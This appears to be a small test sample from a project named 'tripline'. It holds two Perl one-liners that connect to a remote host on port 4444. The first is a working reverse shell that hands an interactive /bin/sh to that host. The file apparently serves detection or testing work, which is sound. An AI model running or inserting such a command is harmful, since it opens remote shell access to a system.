# SPDX-License-Identifier: GPL-2.0-or-later
# Copyright (C) 2026 The tripline authors
# A reverse shell in an interpreter; then one that carries the data through a pipe.
perl -MSocket -e 'socket(my $s, PF_INET, SOCK_STREAM, 0); connect($s, sockaddr_in(4444, inet_aton($ARGV[0]))) or die;
	shutdown($s, 0); open(STDIN, "<&", $s); open(STDOUT, ">&", $s); exec "/bin/sh", "-i"' "$REMOTE"
perl -MSocket -e 'socket(my $s, PF_INET, SOCK_STREAM, 0); connect($s, sockaddr_in(4444, inet_aton($ARGV[0]))) or die;
	open(my $shell, "|-", "/bin/sh"); print $shell "exit\n"; close $shell' "$REMOTE"
true
